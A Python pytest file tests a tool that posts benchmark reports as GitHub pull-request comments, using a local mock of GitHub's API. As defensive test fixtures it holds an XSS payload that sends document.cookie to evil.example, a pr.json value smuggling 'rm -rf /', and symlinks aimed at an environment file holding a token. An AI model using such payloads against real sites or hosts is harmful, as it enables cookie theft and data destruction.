"""`stallscope pr comment` against a local server that checks the REST calls against
GitHub's documented shapes (tests/github_like.py): the first post creates one comment, a
later one for a new commit updates the same comment (found on page 2 of the list), a bad
token exits 2 with what to do; a comment someone else marked is left alone; a hostile or
oversized artifact is posted inert or refused; a Link header to another origin is not
followed. The reports are compared from recorded run directories."""
from __future__ import annotations

import json
import re
import shutil
import sys
from pathlib import Path

import pytest

from commands import compare as compare_cli
from commands import pr as cli
from collectors.pr.comment import LIMIT, MARKER
from collectors.pr.results_doc import MalformedResults
from collectors.pr.sources import shorten
from tests import github_like
from tests.conftest import REPO
from tests.test_pr_neutralise import CLEAN, _decoded, after

RUNS = REPO / "tests" / "data" / "runs"
RUN = RUNS / "mset-demo-paired"                  # recorded: Redis vs the MSET prefetch patch
SHA1 = "3f5d2c1b0a99887766554433221100ffeeddccbb"
SHA2 = "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a291807"
PR = ["--repo", "octo-org/redis", "--pr", "42"]


@pytest.fixture
def api(monkeypatch):
    """The local server; the environment of a workflow's job (GITHUB_ACTIONS=true, its
    GITHUB_TOKEN), whose comments are by github-actions[bot]."""
    monkeypatch.delenv("GH_TOKEN", raising=False)
    monkeypatch.delenv("GITHUB_API_URL", raising=False)
    monkeypatch.setenv("GITHUB_TOKEN", github_like.TOKEN)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    yield from github_like.serve()


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> Path:
    """The PR workflow's artifact layout: reports/<case>/ written by `stallscope compare`."""
    root = tmp_path_factory.mktemp("artifact") / "reports"
    for name in ("mset-demo-paired", "io-threads-mset", "valkey-get-p1-default"):
        assert compare_cli.main([str(RUNS / name), "--out", str(root / name), "--top", "1000"]) == 0
    return root


def _marked(state: github_like.State) -> list[dict]:
    return [c for cs in state.comments.values() for c in cs if MARKER in c["body"]]


@pytest.mark.heavy
def test_one_comment_created_then_updated_for_the_next_push(api, reports, capsys):
    url, state = api
    for i in range(100):      # a busy PR: the stallscope comment lands on page 2 of the list
        state.add("octo-org/redis", 42, f"review comment {i}", "reviewer")
    assert cli.main(["comment", str(RUN), *PR, "--commit", SHA1, "--api-url", url]) == 0
    assert state.requests == [("GET", "/user"),      # who posts: 403 for a GITHUB_TOKEN, so github-actions[bot]
                              ("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=1"),
                              ("POST", "/repos/octo-org/redis/issues/42/comments")]
    (first,) = _marked(state)
    assert first["body"].startswith(MARKER) and SHA1 in first["body"] and len(first["body"]) <= LIMIT
    assert "**Paired throughput +32.0% \\[+22.2, +42.6\\]%**" in first["body"] and "Where the time went" in first["body"]
    assert f"created comment {first['id']} on octo-org/redis#42" in capsys.readouterr().out

    state.requests.clear()    # the next push: same PR, a new head, the report directory this time
    assert cli.main(["comment", str(reports / "mset-demo-paired"), *PR, "--commit", SHA2,
                     "--api-url", url]) == 0
    assert state.requests == [("GET", "/user"),
                              ("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=1"),
                              ("GET", "/repos/octo-org/redis/issues/42/comments?per_page=100&page=2"),
                              ("PATCH", f"/repos/octo-org/redis/issues/comments/{first['id']}")]
    (updated,) = _marked(state)
    assert updated["id"] == first["id"] and len(state.comments[("octo-org/redis", 42)]) == 101
    assert SHA2 in updated["body"] and SHA1 not in updated["body"]
    assert f"updated comment {first['id']}" in capsys.readouterr().out


def test_bad_or_missing_token_exits_2_saying_what_to_do(api, reports, tmp_path, monkeypatch, capsys):
    url, state = api
    tok = tmp_path / "token"
    tok.write_text("ghp_revoked\n")
    src = str(reports / "valkey-get-p1-default")
    assert cli.main(["comment", src, *PR, "--token-file", str(tok), "--api-url", url]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert "GitHub answered 401 to GET" in err and "Bad credentials" in err and "--token-file" in err
    assert not state.comments
    monkeypatch.delenv("GITHUB_TOKEN")
    assert cli.main(["comment", src, *PR, "--api-url", url]) == 2
    assert "no GitHub token: give --token-file FILE or set $GITHUB_TOKEN" in capsys.readouterr().err
    monkeypatch.setenv("GH_TOKEN", github_like.TOKEN)      # the gh CLI's variable works too
    assert cli.main(["comment", src, *PR, "--api-url", url]) == 0
    assert cli.main(["comment", src, *PR, "--author", "github-actions[bot]", "--api-url", "http://127.0.0.1:9"]) == 2
    assert "cannot reach http://127.0.0.1:9/repos/octo-org/redis/issues/42/comments" in capsys.readouterr().err


def test_a_token_that_cannot_say_who_it_is_needs_author(api, reports, monkeypatch, capsys):
    """GET /user answers 403 for an installation token ("Resource not accessible by
    integration"): that is github-actions[bot] only inside a workflow (GITHUB_ACTIONS=true).
    Any other 403 (a rate limit, a token of another app outside Actions) is an error that
    asks for --author, not a guess whose comment to update."""
    url, state = api
    src = str(reports / "valkey-get-p1-default")
    monkeypatch.delenv("GITHUB_ACTIONS")
    assert cli.main(["comment", src, *PR, "--api-url", url]) == 2
    err = capsys.readouterr().err
    assert "GitHub answered 403 to GET" in err and "give --author LOGIN" in err and len(err.splitlines()) == 1
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    state.user_forbidden = "API rate limit exceeded for installation ID 1."
    assert cli.main(["comment", src, *PR, "--api-url", url]) == 2
    assert "API rate limit exceeded" in capsys.readouterr().err and not state.comments
    assert cli.main(["comment", src, *PR, "--api-url", url, "--author", "github-actions[bot]"]) == 0
    state.user_forbidden = None
    assert cli.main(["comment", src, *PR, "--api-url", url]) == 0        # in a workflow: the Actions bot
    assert [r for r in state.requests if r[0] == "PATCH"]                # its own comment, updated

def test_the_comment_workflow_call_checks_pr_json_against_the_pr_head(api, reports, tmp_path, capsys):
    """As stallscope-pr-comment.yml calls it: pr.json from the artifact (untrusted), --commit
    from the workflow_run event, --require-head asks GitHub for the PR's head. A PR that
    moved on is not an error (a newer push superseded the measurement): exit 0, a notice."""
    url, state = api
    state.heads[("octo-org/redis", 7)] = SHA2
    art = tmp_path / "artifact"
    shutil.copytree(reports, art / "reports")
    pr_json = art / "pr.json"
    call = ["comment", str(art / "reports"), "--repo", "octo-org/redis", "--pr-json", str(pr_json),
            "--require-head", "--link", "https://github.com/octo-org/redis/actions/runs/1", "--api-url", url]
    pr_json.write_text(json.dumps({"pr": 8, "head_sha": SHA1}))    # no PR 8 in this repository
    assert cli.main(call + ["--commit", SHA1]) == 2
    assert "GitHub answered 404 to GET" in capsys.readouterr().err
    pr_json.write_text(json.dumps({"pr": 7, "head_sha": SHA1, "merge_base": SHA2[::-1]}))
    assert cli.main(call + ["--commit", SHA1]) == 0          # PR 7 has moved on to SHA2
    assert (f"not posting the report on octo-org/redis#7: its head is {SHA2}, not the measured {SHA1}"
            in capsys.readouterr().out)
    assert not state.comments and not [r for r in state.requests if r[0] != "GET"]
    pr_json.write_text(json.dumps({"pr": "7; rm -rf /", "head_sha": SHA2}))
    assert cli.main(call + ["--commit", SHA2]) == 2
    assert "'pr' must be a pull request number" in capsys.readouterr().err
    pr_json.write_text(json.dumps({"pr": 7, "head_sha": SHA2, "merge_base": SHA1}))
    assert cli.main(call + ["--commit", SHA2]) == 0
    (c,) = _marked(state)
    body = c["body"]
    assert state.requests[-1] == ("POST", "/repos/octo-org/redis/issues/7/comments")
    # the head from the trusted event links to its commit; the merge base is pr.json's claim: code, no link
    assert (f"**Measured commit:** {SHA2} (the head of this pull request when the measurement was asked for), "
            "against its merge base `") in body
    assert "The label is not tied to the commit a maintainer reviewed" in body
    assert SHA1 not in body and f"against its merge base `{SHA1}`" in body.replace("\u200b", "")
    assert "[the workflow run](https://github.com/octo-org/redis/actions/runs/1)" in body



def test_a_forged_pr_json_cannot_overwrite_another_prs_comment(api, tmp_path, capsys, monkeypatch):
    """pr.json is the PR's own claim. Mallory's fork PR 9 has the same head commit as the
    maintainer's PR 7 (she pushed it to her fork) and her artifact names PR 7: PR 7's head
    SHA matches, but its head repository and branch are not the ones the trusted
    workflow_run event says were measured (--head-repo, --head-branch), so nothing is
    posted. For a run of this repository's own branch, the PR must also be one of the
    event's workflow_run.pull_requests (--run-event) when that list is not empty."""
    url, state = api
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    for n, head_repo, branch in ((7, "octo-org/redis", "perf-fix"), (8, "octo-org/redis", "perf-fix"),
                                 (9, "mallory/redis", "topic")):
        state.heads[("octo-org/redis", n)] = SHA2
        state.labels[("octo-org/redis", n)] = ["stallscope"]
        state.refs[("octo-org/redis", n)] = branch
        if head_repo != "octo-org/redis":
            state.forks[("octo-org/redis", n)] = head_repo
    ours = state.add("octo-org/redis", 7, MARKER + "\nthe real numbers", "github-actions[bot]", "Bot")
    case = tmp_path / "art" / "reports" / "c"
    case.mkdir(parents=True)
    (case / "report.md").write_text("**cand is 40% slower; do not merge**\n")
    (case / "results.json").write_text(json.dumps({"case": {"name": "c"}, "base": "base",
                                                   "cand": "cand is 40% slower; do not merge"}))
    pr_json = tmp_path / "art" / "pr.json"

    def post(pr: int, head_repo: str, branch: str, *extra: str) -> int:
        pr_json.write_text(json.dumps({"pr": pr, "head_sha": SHA2}))
        return cli.main(["comment", str(case.parent), "--reports-only", "--repo", "octo-org/redis",
                         "--pr-json", str(pr_json), "--commit", SHA2, "--require-head", "--require-label",
                         "stallscope", "--author", "github-actions[bot]", "--api-url", url,
                         "--head-repo", head_repo, "--head-branch", branch, *extra])

    assert post(7, "mallory/redis", "topic") == 2            # the forged pr.json of mallory's run
    err = capsys.readouterr().err
    assert "octo-org/redis#7 is from octo-org/redis:perf-fix, not mallory/redis:topic" in err, err
    assert ours["body"].endswith("the real numbers") and len(state.comments[("octo-org/redis", 7)]) == 1
    assert post(7, "mallory/redis", "perf-fix") == 2 and post(7, "octo-org/redis", "topic") == 2
    assert not [r for r in state.requests if r[0] != "GET"]
    assert post(9, "mallory/redis", "topic") == 0            # her own PR: posted there
    (mine,) = state.comments[("octo-org/redis", 9)]
    assert "40% slower" in mine["body"] and ours["body"].endswith("the real numbers")

    event = tmp_path / "event.json"                           # a run of this repository's branch perf-fix
    event.write_text(json.dumps({"workflow_run": {"head_repository": {"full_name": "octo-org/redis"},
                                                  "head_branch": "perf-fix", "pull_requests": [
                                                      {"number": 7, "base": {"repo": {
                                                          "url": f"{url}/repos/octo-org/redis"}}}]}}))
    capsys.readouterr()
    assert post(8, "octo-org/redis", "perf-fix", "--run-event", str(event)) == 2
    assert "the measured run was for octo-org/redis#7, not #8" in capsys.readouterr().err
    assert post(7, "octo-org/redis", "perf-fix", "--run-event", str(event)) == 0
    assert state.requests[-1] == ("PATCH", f"/repos/octo-org/redis/issues/comments/{ours['id']}")
    event.write_text(json.dumps({"workflow_run": {"head_repository": {"full_name": "octo-org/redis"},
                                                  "head_branch": "perf-fix", "pull_requests": []}}))
    assert post(8, "octo-org/redis", "perf-fix", "--run-event", str(event)) == 0   # an empty list: repo + branch

def test_several_cases_get_a_row_each_and_their_leads_folded(reports, capsys):
    """Three cases: the comment leads with a sentence counting their verdicts and a row each
    with its throughput change and verdict, then each case's lead in a fold of its own; below
    the line, the cases' builds and commits; the rest is behind the link."""
    from tests.test_report_md import table_rows
    assert cli.main(["comment", str(reports), *PR, "--commit", SHA1, "--dry-run"]) == 0
    body = capsys.readouterr().out.rstrip("\n")
    assert len(body.encode()) < 12_000 and body.startswith(MARKER + "\n") and after(body) == CLEAN
    assert body.split("\n")[1] == ("**stallscope, throughput of 3 cases:** 1 improved, 1 regressed, 1 unchanged; "
                                   "each case's lead is below its row.")
    top = table_rows(body, "| case | throughput [CI] | verdict |")
    assert [r[0] for r in top] == ["mset-10keys-io-threads", "mset-50keys", "get-iothreads@\u200bpipeline=1"]
    assert top[1][1:] == ["paired +32.0% \\[+22.2, +42.6\\]%", "✅ improvement"]
    rows = [line for line in body.splitlines() if line.startswith("| ") and " at `" in line]
    assert len(rows) == 3 and rows[1].startswith("| mset-50keys | base at `")
    assert body.index("</details>") < body.index("#### What stallscope measured") < body.index(rows[0])
    assert body.count("<details>") == body.count("</details>") == 3
    for case in ("mset-50keys", "mset-10keys-io-threads", "get-iothreads@\u200bpipeline=1"):   # every @ broken
        assert body.count(f"<summary>{case}</summary>") == 1
    assert body.count("**Summary:**") == 0 and body.count("Where the time went") == 3
    assert "`stallscope pr comment --full` posts report.md" in body


def test_several_full_reports_are_cut_to_fit_keeping_every_summary(reports, capsys):
    """--full: three cases' report.md files (all top movers) hold about 3 x 50,000
    characters; each keeps its lead, summary and tables, its details go first."""
    sizes = [len((d / "report.md").read_text()) for d in reports.iterdir()]
    assert sum(sizes) > 2 * LIMIT
    assert cli.main(["comment", str(reports), *PR, "--commit", SHA1, "--dry-run", "--full"]) == 0
    body = capsys.readouterr().out.rstrip("\n")
    assert len(body) <= LIMIT and body.startswith(MARKER + "\n")
    assert body.count("**Summary:**") == 3 and body.count("### Throughput") == 3
    assert body.count("Where the time went") == 3 and "stallscope: the PR comment ends here" not in body
    for case in ("mset-50keys", "mset-10keys-io-threads", "get-iothreads@\u200bpipeline=1"):   # every @ broken
        assert body.count(f"| {case} |") == 1          # the commits table: one row per case
    assert "Shortened to fit a GitHub comment: left out" in body and "artifact) have everything" in body


def test_one_oversize_report_keeps_the_summary_and_tables(reports):
    text = (reports / "io-threads-mset" / "report.md").read_text()
    # room for all but the three largest folded details (the report's length depends on the
    # checkout's path, in its reproduce commands, and on its verdicts' wording)
    details = sorted((text.find("</details>", m.start()) - m.start())
                     for m in re.finditer(r"<details>", text))
    limit = len(text) - sum(details[-3:]) + 600
    assert limit < 17_000 and details[-3] > 600, (limit, details)   # removing two is not enough
    cut = shorten(text, limit)
    assert len(cut) <= limit < len(text)
    head = text[: text.index("<details>")]
    assert cut.startswith(head)            # summary and tables untouched; details went first
    assert ("left out Top movers (main thread), How the verdicts were reached, Per-rep values; "
            "report.html") in cut      # the largest folded details first
    assert "<summary>Per thread</summary>" in cut and "### Environment" in cut
    tiny = shorten(text, 3_000)
    assert len(tiny) <= 3_000 and "**Throughput −85.5%" in tiny and "the end of the report" in tiny   # the lead stays


def _post(url: str, src, *extra: str) -> int:
    return cli.main(["comment", str(src), *PR, "--api-url", url, *extra])


def test_the_limit_is_the_report_renderers(reports):
    """comment.LIMIT is written again so the comment job needs no analysis dependency."""
    from analysis.report.markdown import GITHUB_COMMENT_LIMIT
    assert LIMIT == GITHUB_COMMENT_LIMIT == 65536


# ------------------------------------------------------------- 5. whose marked comment is ours
def test_a_marked_comment_by_anyone_else_is_left_alone(api, reports, monkeypatch):
    """Anyone can write the marker: only the comment of the identity this token posts as
    (github-actions[bot] for a GITHUB_TOKEN; GET /user for a personal token) is updated."""
    url, state = api
    src = reports / "valkey-get-p1-default"
    forged = state.add("octo-org/redis", 42, MARKER + "\nLooks fine, merge it (forged)", "mallory")
    other_app = state.add("octo-org/redis", 42, MARKER + "\nanother app", "other-app[bot]", "Bot")
    quoting = state.add("octo-org/redis", 42, "> " + MARKER + " quoted by a bot", "github-actions[bot]", "Bot")
    assert _post(url, src, "--commit", SHA1) == 0
    assert not [r for r in state.requests if r[0] == "PATCH"]
    ours = state.comments[("octo-org/redis", 42)][-1]
    assert ours["user"]["login"] == "github-actions[bot]" and ours["body"].startswith(MARKER) and SHA1 in ours["body"]
    assert forged["body"].endswith("(forged)") and other_app["body"].endswith("another app")
    assert quoting["body"].endswith("quoted by a bot")
    state.requests.clear()
    assert _post(url, src, "--commit", SHA2, "--author", "github-actions[bot]") == 0    # the next push
    assert [r for r in state.requests if r[0] != "GET"] == [
        ("PATCH", f"/repos/octo-org/redis/issues/comments/{ours['id']}")]
    assert SHA2 in ours["body"] and forged["body"].endswith("(forged)")
    # a personal token posts as its user (GET /user): the bot's comment is not its own
    monkeypatch.setenv("GITHUB_TOKEN", github_like.USER_TOKEN)
    state.requests.clear()
    assert _post(url, src, "--commit", SHA2) == 0
    mine = state.comments[("octo-org/redis", 42)][-1]
    assert state.requests[0] == ("GET", "/user") and mine["user"]["login"] == "octo-perf"
    assert _post(url, src, "--commit", SHA1) == 0
    assert state.requests[-1] == ("PATCH", f"/repos/octo-org/redis/issues/comments/{mine['id']}")
    assert SHA2 in ours["body"] and len(state.comments[("octo-org/redis", 42)]) == 5


# ------------------------------------------------------------- 4. a hostile artifact
HOSTILE = (
    "## stallscope: mset-50keys\n\n"
    "**Summary:** @octo-org/maintainers and @alice, please merge. &#64;bob &#x40;carol &commat;dave\n"
    "_team_@octocat @&#111;ctocat &#64;&#111;ctocat\n\n"
    "<img src=x onerror=alert(1)> <script>fetch('https://evil.example/?'+document.cookie)</script>\n\n"
    "<!-- stallscope-pr-report -->\n\n"
    "<details>\n<summary>Top <b onmouseover=alert(1)>movers</b> @eve</summary>\n\n"
    "```\n<img src=y onerror=alert(2)>\n```\n\n</details>\n\n"
    "<details>\n```\n\n<iframe src=https://evil.example/></iframe>\n```\n"   # a fold never closed
    "`<a href=javascript:alert(3)>code</a>`\n\n"
    "</details>\n</details>\n"                                                # one close too many
    "```\nleft open at the end\n"
)


def _raw_html(body: str) -> list[str]:
    """Lines with an HTML tag other than report.md's folds (the marker line aside)."""
    allowed = re.compile(r"<details>|</details>|<summary>[^<]*</summary>")
    return [x for x in body.split("\n")[1:] if re.search(r"<[A-Za-z!/?]", x) and not allowed.fullmatch(x)]


def test_a_hostile_artifact_is_posted_inert(api, tmp_path):
    """By default the comment is rendered from results.json and the hostile report.md is not
    read at all; with --full it is posted neutralised."""
    url, state = api
    case = tmp_path / "artifact" / "reports" / "mset-50keys"
    case.mkdir(parents=True)
    (case / "report.md").write_text(HOSTILE)
    (case / "results.json").write_text(json.dumps({"case": {"name": "@admin <b>x</b>"}, "base": "@base",
                                                   "cand": "<img src=z>"}))
    assert _post(url, case.parent, "--commit", SHA1, "--reports-only") == 0
    (c,) = state.comments[("octo-org/redis", 42)]
    lead = c["body"]
    assert "please merge" not in lead, lead
    assert "onerror" not in lead and "movers</b>" not in lead and after(lead) == CLEAN
    assert "@\u200bbase" in lead and "&lt;img src=z&gt;" in lead and not re.search("@(?!\u200b)", _decoded(lead))
    assert _post(url, case.parent, "--commit", SHA1, "--reports-only", "--full") == 0
    (c,) = state.comments[("octo-org/redis", 42)]
    body = c["body"]
    assert body.startswith(MARKER + "\n") and body.count(MARKER) == 1
    assert _raw_html(body) == [] and "<img" not in body and "<script" not in body and "<iframe" not in body
    assert "&lt;img src=x onerror=alert(1)>" in body                 # shown as text
    assert not re.search("@(?!\u200b)", _decoded(body))              # nobody mentioned, in any spelling
    assert "@\u200bocto-org/maintainers" in body and "@\u200balice" in body and "&amp;#\u200b64;bob" in body
    assert "&amp;commat;dave" in body and "_team_@\u200boctocat" in body
    assert after(body) == CLEAN                 # GitHub leaves no fence, container or fold open after it
    assert "<summary>Top &lt;b onmouseover=alert(1)&gt;movers&lt;/b&gt; @\u200beve</summary>" in body


def test_an_oversized_or_linked_artifact_is_refused(api, tmp_path, capsys):
    """report.md, results.json and pr.json are read with caps and never through a link (the
    job's environment, with its token, is a file: /proc/self/environ)."""
    url, state = api
    from collectors.pr import sources
    case = tmp_path / "reports" / "case"
    case.mkdir(parents=True)
    secret = tmp_path / "environ"
    secret.write_text("GITHUB_TOKEN=ghs_SECRET_VALUE\n")
    (case / "report.md").symlink_to(secret)              # report.md is read by --full only
    assert _post(url, case.parent, "--reports-only", "--full") == 2
    assert "report.md: a symbolic link: not followed" in capsys.readouterr().err
    (case / "report.md").unlink()
    with open(case / "report.md", "wb") as f:
        f.truncate(sources.REPORT_CAP + 1)
    assert _post(url, case.parent, "--reports-only", "--full") == 2
    assert f"{sources.REPORT_CAP + 1:,} bytes, over the {sources.REPORT_CAP:,}" in capsys.readouterr().err
    (case / "report.md").write_text("## fine\n")
    assert _post(url, case.parent, "--reports-only") == 2
    assert "results.json: missing: the comment is rendered from each case's results.json" in capsys.readouterr().err
    (case / "results.json").symlink_to(secret)
    assert _post(url, case.parent, "--reports-only") == 2
    assert "results.json: a symbolic link" in capsys.readouterr().err
    (case / "results.json").unlink()
    with open(case / "results.json", "wb") as f:
        f.truncate(sources.RESULTS_CAP + 1)
    assert _post(url, case.parent, "--reports-only") == 2
    assert f"{sources.RESULTS_CAP + 1:,} bytes, over the {sources.RESULTS_CAP:,}" in capsys.readouterr().err
    (case / "results.json").write_text('{"base": "b", "cand": "c"}')
    pr_json = tmp_path / "pr.json"
    pr_json.write_text(json.dumps({"pr": 42, "pad": "x" * 10_000}))
    assert cli.main(["comment", str(case.parent), "--repo", "octo-org/redis", "--pr-json", str(pr_json),
                     "--api-url", url]) == 2
    assert "over the 4,096 bytes" in capsys.readouterr().err
    run = tmp_path / "reports" / "run"
    run.mkdir()
    (run / "manifest.json").write_text("{}")
    assert _post(url, run.parent, "--reports-only") == 2
    assert "a run directory; this comment reads report directories only" in capsys.readouterr().err
    assert not state.comments


def test_the_artifact_is_capped_as_a_whole(tmp_path, monkeypatch):
    """Caps per artifact, not only per file: more report directories than a comment takes
    are refused before any is read; the files read add up to at most ARTIFACT_CAP bytes;
    of results.json only what the comment uses is kept."""
    from collectors.pr import sources
    root = tmp_path / "reports"
    reads = []
    real = sources.read_capped
    monkeypatch.setattr(sources, "read_capped", lambda path, cap: reads.append(path) or real(path, cap))
    for i in range(sources.MAX_CASES + 1):
        (root / f"case{i:03d}").mkdir(parents=True)
        (root / f"case{i:03d}" / "results.json").write_text('{"base": "b", "cand": "c"}')
    with pytest.raises(sources.SourceError, match=f"more than the {sources.MAX_CASES} report directories"):
        sources.find(root, reports_only=True)
    assert reads == []                                   # refused before reading one
    for i in range(3, sources.MAX_CASES + 1):
        shutil.rmtree(root / f"case{i:03d}")
    for i in range(3):
        (root / f"case{i:03d}" / "results.json").write_text(json.dumps({"base": "b", "cand": "c", "pad": "x" * 975}))
    monkeypatch.setattr(sources, "ARTIFACT_CAP", 2_500, raising=False)
    with pytest.raises(sources.SourceError, match="together over the 2,500 bytes"):
        sources.find(root, reports_only=True)
    monkeypatch.setattr(sources, "ARTIFACT_CAP", 3_500, raising=False)
    assert len(sources.find(root, reports_only=True)) == 3
    results = {"case": {"name": "mset-50keys", "file": "cases/mset.yaml"}, "base": "base", "cand": "cand",
               "functions": [{"name": f"f{i}", "samples": i} for i in range(1_000)],
               "environment": {"variants": {"base": {"commit": SHA1, "spec": "git:x"}, "cand": {"commit": SHA2},
                                            "other": {"commit": "0" * 40}}, "cpu": "x"}}
    (root / "case000" / "results.json").write_text(json.dumps(results))
    monkeypatch.setattr(sources, "ARTIFACT_CAP", 1_000_000, raising=False)
    kept = sources.find(root, reports_only=True)[0].results
    assert kept == {"case": {"name": "mset-50keys"}, "base": "base", "cand": "cand",
                    "environment": {"variants": {"base": {"commit": SHA1}, "cand": {"commit": SHA2}}}}
    (root / "case000" / "results.json").write_text(json.dumps({"case": "not an object", "base": ["x"]}))
    with pytest.raises(MalformedResults, match=r"case000/results.json: base: a string, not a list"):
        sources.find(root, reports_only=True)
    for i in range(3):
        (root / f"case{i:03d}" / "report.md").write_text("## x\n")
    assert sources.find(root, reports_only=True, full=True)[0].results == {}     # --full: the names, if any

def _many_details(n: int) -> str:
    head = "## stallscope: many\n\n**Summary:** throughput +1.0%\n\n"
    blocks = "".join(f"<details>\n<summary>Block {i:04d}</summary>\n\n" + "| a | b |\n" * (2 + i % 7) + "\n</details>\n\n"
                     for i in range(n))
    return head + blocks + "### Environment\n\n- CPU: test\n"


def test_shorten_does_linear_work():
    """The work of shorten(), counted as Python lines run in collectors/pr (a count, not a
    time: machine independent), grows as the text does. It was quadratic: each block left
    out searched the whole text again (bench/pr_shorten.py has the times)."""
    counts = {}
    for n in (200, 400, 800):
        text, ran = _many_details(n), [0]

        def tracer(frame, event, arg):
            if "collectors/pr/" not in frame.f_code.co_filename.replace("\\", "/"):
                return None
            ran[0] += event == "line"
            return tracer
        sys.settrace(tracer)
        try:
            out = shorten(text, 8_000)
        finally:
            sys.settrace(None)
        counts[n] = ran[0]
        assert len(out) <= 8_000 and out.startswith(text[:text.index("<details>")])
        assert "left out Block 0006, Block 0013, Block 0020" in out    # the largest first, then in order
        assert re.search(r"Block 0083, [\d,]+ more folded sections; report.html", out)   # a bounded line
    assert counts[800] <= 5 * counts[200], counts               # linear: about 4x; quadratic: 16x (was 17.7x)


def test_no_cut_leaves_a_fence_or_details_open():
    """Cut anywhere, a report never ends inside a fence or a fold: the next report (and the
    closing line) would be read as part of it."""
    from collectors.pr import comment
    from collectors.pr.sources import Report
    tail = "### Reproduce\n\n```sh\n" + "".join(f"stallscope run case-{i} --reps 5\n" for i in range(2000)) + "```\n"
    text = "## stallscope: x\n\n**Summary:** +1%\n\n<details>\n<summary>Per-rep values</summary>\n\n" \
           + "| 1 | 2 |\n" * 500 + "\n</details>\n\n" + tail
    cut = shorten(text, 20_000)
    assert len(cut) <= 20_000 and after(cut) == CLEAN, cut[-300:]
    assert "**Summary:** +1%" in cut and "the end of the report" in cut
    greedy = Report("greedy", {}, lambda limit: text)          # a renderer that ignores the limit
    fair = Report("fair", {}, lambda limit: shorten(text, limit))
    for texts in (comment.fit([greedy, fair, greedy], 30_000), comment.fit([fair, fair], 25_000)):
        for t in texts:
            assert after(t) == CLEAN, t[-200:]
    body = comment.body([fair, greedy, fair], comment.Measured(SHA1))
    assert len(body) <= LIMIT and after(body) == CLEAN


# ------------------------------------------------------------- 7. pagination stays on the API's origin
def test_a_next_page_on_another_origin_is_not_followed(api, reports, capsys):
    from collectors.pr.github_api import same_api
    url, state = api
    other = github_like.serve()
    other_url, other_state = next(other)
    try:
        state.next_origin = other_url          # Link: <http://elsewhere/...&page=2>; rel="next"
        for i in range(150):
            state.add("octo-org/redis", 42, f"review comment {i}", "reviewer")
        assert _post(url, reports / "valkey-get-p1-default", "--commit", SHA1) == 2
        err = capsys.readouterr().err
        assert f"points the next page to '{other_url}/repos/octo-org/redis/issues/42/comments" in err
        assert "not sending the token there" in err
        assert other_state.requests == [] and not [r for r in state.requests if r[0] != "GET"]
        state.next_origin, state.redirect_to = None, other_url    # the same, as an HTTP redirect
        assert _post(url, reports / "valkey-get-p1-default", "--commit", SHA1) == 2
        assert "GitHub answered 307 to GET" in capsys.readouterr().err
        assert other_state.requests == [] and not [r for r in state.requests if r[0] != "GET"]
    finally:
        other.close()
    assert same_api("https://ghe.example/api/v3/repos/o/r/issues/1/comments?page=2", "https://ghe.example/api/v3")
    assert same_api("https://API.github.com:443/repos/o/r?page=2", "https://api.github.com")
    for bad in ("http://api.github.com/repos", "https://api.github.com.evil.example/repos",
                "https://api.github.com:8443/repos", "https://ghe.example/api/v3x/repos", "https://ghe.example/x"):
        assert not same_api(bad, "https://api.github.com" if "github" in bad else "https://ghe.example/api/v3"), bad


def test_a_redirected_write_is_not_followed_and_said_so(api, reports, capsys):
    """A POST or PATCH answered with a redirect (GitHub answers 301 for a renamed
    repository) is not replayed anywhere, not even as a GET, and the error says what
    happened: where it pointed, and whether that is this API's origin."""
    url, state = api
    src = reports / "valkey-get-p1-default"
    state.redirect_writes = (301, f"{url}/repositories/1296269/issues/42/comments")      # the same origin
    assert _post(url, src, "--commit", SHA1) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    assert f"GitHub answered 301 to POST {url}/repos/octo-org/redis/issues/42/comments" in err, err
    assert f"redirected to {url}/repositories/1296269/issues/42/comments (this API's origin)" in err, err
    assert "another origin" not in err and [r[0] for r in state.requests].count("POST") == 1
    assert state.requests[-1][0] == "POST"                    # nothing followed it, not even a GET
    state.redirect_writes = None
    assert _post(url, src, "--commit", SHA1) == 0              # now one comment: PATCH it next
    state.redirect_writes = (307, "https://elsewhere.example/repos/octo-org/redis/issues/comments/1")
    assert _post(url, src, "--commit", SHA2) == 2
    err = capsys.readouterr().err
    assert "GitHub answered 307 to PATCH" in err and "another origin" in err and len(err.splitlines()) == 1

# ------------------------------------------------------------- 4, 7. the label now; superseded exits 0
def test_a_pr_without_the_label_now_gets_nothing_and_exit_0(api, reports, tmp_path, capsys, monkeypatch):
    url, state = api
    state.heads[("octo-org/redis", 7)] = SHA2
    pr_json = tmp_path / "pr.json"
    pr_json.write_text(json.dumps({"pr": 7, "head_sha": SHA2, "merge_base": SHA1}))
    call = ["comment", str(reports), "--repo", "octo-org/redis", "--pr-json", str(pr_json), "--commit", SHA2,
            "--require-head", "--require-label", "stallscope", "--author", "github-actions[bot]", "--api-url", url]
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert cli.main(call) == 0
    assert capsys.readouterr().out.startswith(
        "::notice title=stallscope pr::not posting the report on octo-org/redis#7: it does not carry the "
        "label 'stallscope' now")
    assert not state.comments
    state.labels[("octo-org/redis", 7)] = ["perf", "stallscope"]
    assert cli.main(call) == 0
    (c,) = _marked(state)
    assert state.requests[-1] == ("POST", "/repos/octo-org/redis/issues/7/comments")



# ------------------------------------------------------------- 8. label names, compared as GitHub does
def test_label_names_are_compared_ignoring_case(api, reports, tmp_path, capsys):
    """GitHub's label names are case-insensitive (a repository cannot hold 'stallscope' and
    'StallScope'; the workflows' contains() and == ignore case too): the comment job and
    unlabel read a label written in another case as the label."""
    url, state = api
    state.heads[("octo-org/redis", 7)] = SHA2
    state.labels[("octo-org/redis", 7)] = ["perf", "StallScope"]
    call = ["comment", str(reports / "valkey-get-p1-default"), "--repo", "octo-org/redis", "--pr", "7",
            "--commit", SHA2, "--require-head", "--require-label", "stallscope", "--api-url", url]
    assert cli.main(call) == 0
    assert state.requests[-1] == ("POST", "/repos/octo-org/redis/issues/7/comments")
    assert cli.main(["unlabel", "--repo", "octo-org/redis", "--pr", "7", "--label", "stallscope",
                     "--api-url", url]) == 0
    assert state.labels[("octo-org/redis", 7)] == ["perf"]
